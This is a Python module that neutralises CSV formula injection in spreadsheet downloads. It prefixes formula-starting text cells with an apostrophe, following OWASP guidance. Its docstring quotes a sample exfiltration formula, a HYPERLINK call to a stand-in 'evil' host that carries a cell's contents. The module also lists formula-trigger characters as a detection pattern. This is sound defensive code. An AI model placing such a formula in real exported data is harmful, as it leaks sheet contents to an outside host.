"""CSV downloads that are safe to open in a spreadsheet.

Exports carry text from customers' systems (names, ticket subjects, owners). A cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula (`=HYPERLINK("http://evil/?"&A1, "Open")`), which can leak the
sheet or run commands. Following OWASP's CSV-injection guidance, such text cells get a
leading apostrophe, which spreadsheets show as plain text. Numbers are left alone: -12.5
in a number column is a number, not a formula.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A text value that a spreadsheet would run as a formula, made inert; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells (and column names) cannot start a formula."""
    safe = frame.copy()
    for column in safe.columns:
        values = safe[column]
        if pd.api.types.is_string_dtype(values) or pd.api.types.is_object_dtype(values):
            safe[column] = values.map(neutralise)
    safe.columns = [neutralise(str(c)) for c in safe.columns]
    return safe


def csv_text(frame: pd.DataFrame) -> str:
    """`frame` as CSV text for a download button, with formula cells neutralised.

    Rows end in CRLF (RFC 4180), which also makes the writer quote a cell holding a lone
    carriage return: with "\n" endings such a cell is written bare and splits the row.
    """
    return spreadsheet_safe(frame).to_csv(index=False, lineterminator="\r\n")
